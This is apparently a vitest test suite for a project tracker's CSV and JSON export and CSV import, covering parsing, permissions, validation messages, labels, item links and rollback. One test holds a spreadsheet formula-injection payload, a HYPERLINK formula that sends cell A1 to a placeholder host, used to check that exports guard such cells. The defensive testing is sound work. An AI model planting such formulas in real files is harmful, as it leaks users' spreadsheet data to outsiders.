import Papa from 'papaparse'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { unguardCell } from '@bluestem/core/exchange'
import { parsed } from '../src/exchange/readCsv.ts'
import vectors from './vectors/csv.json' with { type: 'json' }
import { runJobs } from './jobWorker.ts'
import { testNow } from './setup.ts'
import { serveWorkspace, type Caller, type Reply, type Served } from './workspace.ts'

let served: Served
let mara: Caller
beforeAll(async () => {
  served = await serveWorkspace()
  mara = await served.signIn('Mara Thiel')
})
afterAll(async () => await served.close())

/** A file as an independent reader takes it, its guarded cells as they were. */
const rowsOf = (text: string): string[][] =>
  Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data.map((row) =>
    row.map(unguardCell),
  )

describe('answers taken out', () => {
  const hostile = '=HYPERLINK("http://example.test?x="&A1,"click"),\r\n; a "b"'
  const fields = 'ref,title,status,labels,estimate,due,created'

  it('as CSV hold every answer in its columns and order, read by another library', async () => {
    await mara('PATCH', '/items/YARD/7', { title: hostile, estimate: -2.5 }, { 'if-match': '*' })
    const question = { filter: "project = 'YARD'", fields, sort: 'ref' }
    const out = await mara('POST', '/items/export', { ...question, format: 'csv' })
    expect(out.status).toBe(200)
    const [head, ...rows] = rowsOf(out.body as string)
    expect(head).toEqual(['Ref', 'Title', 'Status', 'Labels', 'Estimate', 'Due', 'Created'])
    const page = (await mara('POST', '/items/search', { ...question, limit: 1000 })).body
    expect(rows).toHaveLength(page.total)
    for (const [index, item] of page.items.entries()) {
      const [ref, title, status, labels, estimate, due, created] = rows[index]!
      expect({ ref, title, status, due, created, estimate }).toEqual({
        ref: item.ref,
        title: item.title,
        status: item.status.title,
        due: item.due ?? '',
        created: item.created,
        estimate: String(item.estimate ?? ''),
      })
      expect(labels!.split('; ').filter(Boolean)).toHaveLength(item.labels.length)
    }
    const cell = (out.body as string).split('\r\n').find((line) => line.startsWith('YARD/7,'))!
    expect(cell).toContain(`"'=HYPERLINK(`)
    expect(rows.find(([ref]) => ref === 'YARD/7')).toMatchObject({ 4: '-2.5' })
  })

  it('as JSON are what the pages hold', async () => {
    const question = { filter: "project = 'SAFE'", fields, sort: '-created' }
    const out = await mara('POST', '/items/export', { ...question, format: 'json' })
    const page = (await mara('POST', '/items/search', { ...question, limit: 1000 })).body
    const items = page.items.map(({ etag: _, ...item }: { etag: string }) => item)
    const read = typeof out.body === 'string' ? JSON.parse(out.body) : out.body
    expect(read).toEqual({ items, total: page.total })
  })

  it('leave out what one may not see, and say what is wrong with a question', async () => {
    const ida = await served.signIn('Ida Lund')
    const out = await ida('POST', '/items/export', { format: 'csv', fields: 'ref' })
    const seen = (await ida('POST', '/items/search', { limit: 1 })).body.total
    expect(rowsOf(out.body as string)).toHaveLength(seen + 1)
    const wrong = await mara('POST', '/items/export', { format: 'csv', fields: 'ref,nope' })
    expect([wrong.status, wrong.body.errors[0].pointer]).toEqual([400, '/fields'])
  })
})

describe('a file is read', () => {
  interface Vector {
    readonly name: string
    readonly source: string
    readonly input: { readonly text?: string; readonly delimiter?: string }
    readonly expected: { readonly rows?: string[][]; readonly error?: true }
  }
  const reading = (vectors as unknown as readonly Vector[]).filter(({ name }) =>
    name.startsWith('read: '),
  )
  it.each(reading)('$name ($source)', ({ input, expected }) => {
    const read = (): string[][] =>
      parsed(input.text!, (input.delimiter ?? ',') as ',').map(({ cells }) => [...cells])
    if (expected.error) expect(read).toThrow(/^Line \d+ cannot be read/)
    else expect(read()).toEqual(expected.rows)
  })
})

describe('a file brought in', () => {
  const take = async (text: string, by = mara): Promise<Reply> =>
    await by('POST', '/imports', { project: 'YARD', name: 'jobs.csv', text })
  const check = async (id: string, reading: object, by = mara): Promise<Reply> =>
    await by('POST', `/imports/${id}/check`, reading)
  const carryOut = async (id: string, goodOnly = false): Promise<Reply['body']> => {
    const begun = await mara('POST', `/imports/${id}/carry-out`, { goodOnly })
    expect(begun.status, JSON.stringify(begun.body)).toBe(202)
    await runJobs(served, () => testNow)
    return (await mara('GET', `/imports/${id}`)).body
  }
  const total = async (): Promise<number> =>
    (await mara('POST', '/items/search', { limit: 1 })).body.total

  const text = [
    'Typ;Titel;Status;Cost of parts;Due;Labels;Belongs to;Nummer',
    'Work package;Refit of the old slip;Open;;1.3.2027;;;A-1',
    'Job;Take out the winch;Open;1 250,50;15.3.2027;;A-1;A-2',
    'Job;"Paint; two coats";Open;;;;A-1;A-3',
  ].join('\r\n')

  it('is understood by its headings and values, makes items below each other, and changes nothing the second time', async () => {
    const taken = await take(text)
    expect(taken.status, JSON.stringify(taken.body)).toBe(201)
    const { id, separator, rows, reading, columns } = taken.body
    expect([separator, rows, columns[1].samples[0]]).toEqual([';', 3, 'Refit of the old slip'])
    expect(reading.columns[0]).toBe('type')
    const fields = (await mara('GET', '/definitions')).body.document.fields as Record<
      string,
      { handle: string; kind: string }
    >
    const key = Object.values(fields).find((field) => field.kind === 'text')!.handle
    const said = {
      columns: ['type', 'title', 'status', null, 'due', null, 'parent', key],
      key,
      days: 'DMY',
    }
    const before = await total()
    const first = await check(id, said)
    expect(first.body).toMatchObject({ rows: 3, made: 3, changed: 0, same: 0, wrong: 0 })
    expect(await total()).toBe(before)
    expect(await carryOut(id)).toMatchObject({ state: 'done', counts: { made: 3 } })
    expect(await total()).toBe(before + 3)
    const made = (
      await mara('POST', '/items/search', {
        filter: "title = 'Take out the winch'",
        fields: `parent,due,${key}`,
      })
    ).body.items[0]
    expect(made).toMatchObject({ due: '2027-03-15', fields: { [key]: 'A-2' } })
    expect((await mara('GET', `/items/${made.parent.id}`)).body.children).toHaveLength(2)
    const { versions } = (await mara('GET', `/items/${made.ref}/history`)).body
    expect(versions[0].by).toMatchObject({ kind: 'import', title: 'Mara Thiel' })

    const again = (await take(text)).body
    expect(again.reading).toEqual(said)
    expect((await check(again.id, said)).body).toMatchObject({ made: 0, changed: 0, same: 3 })
    const other = (await take(text.replace('15.3.2027', '16.3.2027'))).body
    expect((await check(other.id, said)).body).toMatchObject({ made: 0, changed: 1, same: 2 })
    await carryOut(other.id)
    expect((await mara('GET', `/items/${made.ref}`)).body.due).toBe('2027-03-16')
  })

  const bad = [
    'Type,Title,Due,Parent',
    'Job,Good one,2027-03-01,',
    'Jobb,Wrong type,2027-03-01,',
    'Job,Wrong day,soon,',
    'Job,,2027-03-01,',
    'Job,No parent,,YARD/999999',
    'Job,Too long,2027-03-01,,more',
  ].join('\n')
  const said = { columns: ['type', 'title', 'due', 'parent'], key: null, days: 'YMD' }

  it('tells every wrong cell with its line and column, and lets nothing in unless the good rows alone are asked for', async () => {
    const { id } = (await take(bad)).body
    const { body } = await check(id, said)
    expect(body).toMatchObject({ rows: 6, made: 1, wrong: 5 })
    const told = body.problems.map((problem: { line: number; column: string }) => [
      problem.line,
      problem.column,
    ])
    expect(told).toEqual([
      [3, 'Type'],
      [4, 'Due'],
      [5, 'Title'],
      [6, 'Parent'],
      [7, null],
    ])
    expect(body.problems[0]).toMatchObject({ found: 'Jobb', message: /Did you mean “Job”/ })
    const before = await total()
    expect((await mara('POST', `/imports/${id}/carry-out`, { goodOnly: false })).status).toBe(409)
    expect(await carryOut(id, true)).toMatchObject({ state: 'done', counts: { made: 1, wrong: 5 } })
    expect(await total()).toBe(before + 1)
    const rest = rowsOf((await mara('GET', `/imports/${id}/rest`)).body)
    expect(rest[0]).toEqual(['Type', 'Title', 'Due', 'Parent', 'What is wrong'])
    expect(rest).toHaveLength(6)
    expect(rest[2]).toEqual(['Job', 'Wrong day', 'soon', '', expect.stringContaining('cannot be')])
  })

  it('tells which labels there are not, and takes them once they are made', async () => {
    const rows = ['Type,Title,Labels', 'Job,One,tidal;wet paint', 'Job,Two,tidal']
    const { id } = (await take(rows.join('\n'))).body
    const reading = { columns: ['type', 'title', 'labels'], key: null, days: 'YMD' }
    const { body } = await check(id, reading)
    expect(body).toMatchObject({ made: 0, wrong: 2 })
    expect(body.unknown).toEqual([
      { handle: 'labels', domain: 'label', value: 'tidal', rows: 2 },
      { handle: 'labels', domain: 'label', value: 'wet paint', rows: 1 },
    ])
    for (const { value } of body.unknown)
      expect((await mara('POST', '/labels', { title: value })).status).toBe(201)
    expect((await check(id, reading)).body).toMatchObject({ made: 2, wrong: 0, unknown: [] })
  })

  it('links rows with each other and with what is there, by keys and refs, and not a second time', async () => {
    const fields = (await mara('GET', '/definitions')).body.document.fields as Record<
      string,
      { handle: string; kind: string }
    >
    const key = Object.values(fields).find((field) => field.kind === 'text')!.handle
    const rows = [
      'Type,Title,Key,Waits for,Holds up',
      'Job,Paint the hull,L-1,L-2;L-3,',
      'Job,Dry the hull,L-2,L-3,YARD/9',
      'Job,Wash the hull,L-3,,',
      'Job,Turned round,L-4,,L-5',
      'Job,And back,L-5,,L-4',
      'Job,To nowhere,L-6,L-99,',
    ].join('\n')
    const { id, reading } = (await take(rows)).body
    const [out, into] = ['link:lk_waits:out', 'link:lk_waits:in']
    expect(reading.columns.slice(3)).toEqual([out, into])
    const said = { columns: ['type', 'title', key, out, into], key, days: 'YMD' }
    const first = (await check(id, said)).body
    expect(first).toMatchObject({ made: 3, wrong: 3, links: 4 })
    expect(
      first.problems.map((problem: { line: number; column: string }) => [
        problem.line,
        problem.column,
      ]),
    ).toEqual([
      [5, 'Holds up'],
      [6, 'Holds up'],
      [7, 'Waits for'],
    ])
    expect(await carryOut(id, true)).toMatchObject({ state: 'done', counts: { made: 3, wrong: 3 } })
    const filter = "title = 'Dry the hull'"
    const [dry] = (await mara('POST', '/items/search', { filter, fields: 'links' })).body.items
    expect(dry.links.map((kind: { id: string }) => kind.id)).toEqual(['lk_waits'])
    const { links } = (await mara('GET', `/items/${dry.ref}/links`)).body
    expect(links.map((link: { words: string; title: string }) => [link.words, link.title])).toEqual(
      expect.arrayContaining([
        ['waits for', 'Wash the hull'],
        ['holds up', 'Paint the hull'],
      ]),
    )
    const there = (await mara('GET', '/items/YARD/9/links')).body.links
    expect(there).toContainEqual(expect.objectContaining({ words: 'waits for', ref: dry.ref }))
    const again = (await take(rows)).body
    expect((await check(again.id, said)).body).toMatchObject({
      made: 0,
      changed: 0,
      same: 3,
      links: 0,
    })
    await mara('DELETE', `/items/${dry.ref}/links/${links[0].id}`)
    expect((await check(again.id, said)).body).toMatchObject({ changed: 1, same: 2, links: 1 })
  })

  it('leaves nothing where a row turns wrong after it was looked at', async () => {
    const rows = Array.from({ length: 1200 }, (_, index) => `Job,Row ${index},,`)
    const filter = "project = 'YARD' AND type = 'Work package'"
    const [above] = (await mara('POST', '/items/search', { filter, limit: 1 })).body.items
    const parent = `Job,Last,,${above.ref}`
    const { id } = (await take(['Type,Title,Due,Parent', ...rows, parent].join('\n'))).body
    expect((await check(id, said)).body).toMatchObject({ made: 1201, wrong: 0 })
    const before = await total()
    await mara('DELETE', `/items/${above.ref}`, undefined, { 'if-match': '*' })
    const begun = await mara('POST', `/imports/${id}/carry-out`, { goodOnly: false })
    expect(begun.status).toBe(202)
    await runJobs(served, () => testNow)
    const file = (await mara('GET', `/imports/${id}`)).body
    expect(file.state).toBe('refused')
    expect(file.reason).toContain('Nothing came in.')
    expect(await total()).toBe(before - 1)
  })

  it('is found by nobody else, and said to be empty or unreadable where it is', async () => {
    const tom = await served.signIn('Tom Okafor')
    const { id } = (await take(bad)).body
    expect((await tom('GET', `/imports/${id}`)).status).toBe(404)
    expect((await check(id, said, tom)).status).toBe(404)
    expect((await take('Type,Title\n')).body.detail).toContain('no rows')
    expect((await take('Type,Title\n"a,b\n')).body.detail).toContain('Line')
    const wrong = await check(id, { ...said, columns: ['type', 'type', 'nope', null] })
    expect(wrong.body.errors.map((error: { message: string }) => error.message)).toEqual([
      'No column can become “nope”.',
      'Two columns become “type”; leave one of them out.',
    ])
    expect((await mara('DELETE', `/imports/${id}`)).status).toBe(204)
    expect((await mara('GET', `/imports/${id}`)).status).toBe(404)
  })
})
